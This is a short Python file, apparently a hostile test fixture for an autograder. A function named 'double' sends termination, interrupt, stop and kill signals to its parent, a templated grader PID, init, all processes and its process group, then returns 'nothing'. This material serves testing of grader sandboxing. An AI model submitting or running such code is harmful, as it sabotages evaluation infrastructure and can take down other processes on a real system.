"""Sends signals to its parent, the grader and everybody."""
import os, signal
def double(values):
    for process in (os.getppid(), int("@PID@"), 1, -1, 0, -os.getppid()):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return "nothing"
